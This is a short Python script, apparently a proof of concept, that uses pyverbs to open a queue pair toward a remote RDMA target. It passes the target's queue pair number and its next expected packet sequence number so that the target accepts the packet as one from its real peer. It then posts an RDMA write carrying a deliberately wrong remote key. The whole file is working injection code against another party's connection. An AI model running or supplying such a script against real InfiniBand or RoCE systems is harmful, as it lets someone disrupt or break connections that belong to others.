"""Sends an RDMA write with a wrong key through pyverbs. The target takes it for a packet of its peer.

Usage: stray_write.py OPERATION DEVICE GID_INDEX REMOTE_GID REMOTE_QUEUE_PAIR PACKET_NUMBER. The operation is
IBV_WR_RDMA_WRITE or IBV_WR_RDMA_WRITE_WITH_IMM. PACKET_NUMBER is the number that the target expects next.
"""

from __future__ import annotations

import sys
import time

from pyverbs import addr, cq, device, enums, mr, pd, qp, wr

_KEY = 0x5A5A5A


def main(operation: str, name: str, gid_index: str, remote_gid: str, queue_pair: str, packet: str) -> None:
    """Connects a new queue pair to the target, without the target's knowledge, and posts the write."""
    context = device.Context(name=name)
    domain = pd.PD(context)
    region = mr.MR(domain, 64, enums.IBV_ACCESS_LOCAL_WRITE)
    completions = cq.CQ(context, 8)
    cap = qp.QPCap(max_send_wr=4, max_recv_wr=1, max_send_sge=1, max_recv_sge=1)
    made = qp.QP(
        domain,
        qp.QPInitAttr(qp_type=enums.IBV_QPT_RC, scq=completions, rcq=completions, cap=cap),
        qp.QPAttr(),
    )
    attributes = qp.QPAttr(port_num=1)
    attributes.ah_attr = addr.AHAttr(
        gr=addr.GlobalRoute(dgid=addr.GID(remote_gid), sgid_index=int(gid_index), hop_limit=64),
        is_global=1,
        port_num=1,
    )
    attributes.dest_qp_num = int(queue_pair)
    attributes.sq_psn = int(packet)
    attributes.path_mtu = enums.IBV_MTU_1024
    attributes.timeout, attributes.retry_cnt, attributes.rnr_retry = 14, 1, 1
    attributes.max_rd_atomic = attributes.max_dest_rd_atomic = attributes.min_rnr_timer = 1
    made.to_rts(attributes)
    piece = wr.SGE(region.buf, 8, region.lkey)
    request = wr.SendWR(
        opcode=getattr(enums, operation), num_sge=1, sg=[piece], send_flags=enums.IBV_SEND_SIGNALED
    )
    request.set_wr_rdma(_KEY, 4096)
    made.post_send(request)
    time.sleep(0.2)  # nobody answers: the queue pair stays until the packet has left


if __name__ == "__main__":
    main(*sys.argv[1:])
